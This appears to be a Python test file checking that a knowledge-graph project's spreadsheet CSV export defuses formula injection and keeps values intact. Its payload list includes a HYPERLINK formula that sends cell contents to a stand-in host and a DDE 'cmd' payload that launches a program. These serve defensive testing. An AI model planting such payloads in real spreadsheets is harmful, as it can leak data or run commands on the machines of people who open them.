"""CSV for spreadsheets: no cell begins a formula, and every text is had back as it was."""

import csv
import io

import httpx
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from demarche.graph import KnowledgeGraph
from demarche.graph.exports import table_csv
from demarche.graph.reaction_files import reactions_file
from demarche.graph.spreadsheet import exact, spreadsheet
from demarche.graph.store import Table, Term
from tests.service.conftest import client

__all__ = ["client"]

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://a.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",  # noqa: RUF001
    "|calc",
    "%0A=1",
    "'=1",
    "''",
]
PLAIN = ["2016-06-22", "-12.5", "+7", "1e-5", "Foreign Ministry", "a=b", "a;=1+1", 'say "=1"', "", "北"]


def cells(text: str) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))][1:]


def table(values: list[str]) -> str:
    return table_csv(Table(("value",), tuple((Term(value, "literal"),) for value in values)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_may_be_a_formula_stands_behind_an_apostrophe(payload: str) -> None:
    assert cells(spreadsheet(table([payload]))) == [f"'{payload}"]


def test_numbers_days_and_names_stay_as_they_are() -> None:
    assert cells(spreadsheet(table(PLAIN))) == PLAIN


def test_a_cell_stays_whole_where_cells_are_parted_by_semicolons() -> None:
    lines = spreadsheet(table(["a;=1+1"])).removeprefix("\ufeff").splitlines()
    assert lines == ['"value"', '"a;=1+1"']


@given(st.lists(st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"])), min_size=1))
@example(PAYLOADS)
def test_every_text_is_had_back_and_machine_csv_is_never_touched(values: list[str]) -> None:
    machine = table(values)
    assert cells(machine) == values
    shown = cells(spreadsheet(machine))
    assert [exact(cell) for cell in shown] == values
    assert not [cell for cell in shown if cell.lstrip(" ")[:1] in tuple("=@\t\r\n")]


@pytest.mark.parametrize(
    "path",
    [
        "/questions/who-reacted?event=2016-06-22-musudan",
        "/events?limit=50",
        "/network/co-reaction/centrality",
    ],
)
def test_over_http_it_has_the_rows_of_the_machine_csv(client: httpx.Client, path: str) -> None:
    given_as = "&format={}" if "?" in path else "?format={}"
    machine = client.get(path + given_as.format("csv"))
    shown = client.get(path + given_as.format("spreadsheet"))
    assert shown.headers["content-type"] == "text/csv; header=present; charset=utf-8"
    assert shown.content.startswith(b"\xef\xbb\xbf")
    read = [
        list(csv.reader(io.StringIO(one.content.decode("utf-8-sig"), newline=""))) for one in (machine, shown)
    ]
    assert read[0] == [[exact(cell) for cell in row] for row in read[1]]
    assert not machine.content.startswith(b"\xef\xbb\xbf")
    again = client.get(path, headers={"Accept": "text/csv"})
    assert again.content == machine.content


def test_the_reactions_are_to_be_had_for_a_spreadsheet(seed_graph: KnowledgeGraph) -> None:
    machine, shown = (
        reactions_file(seed_graph.reactions(), name).decode("utf-8-sig") for name in ("csv", "spreadsheet")
    )
    assert cells(machine) == [exact(cell) for cell in cells(shown)]
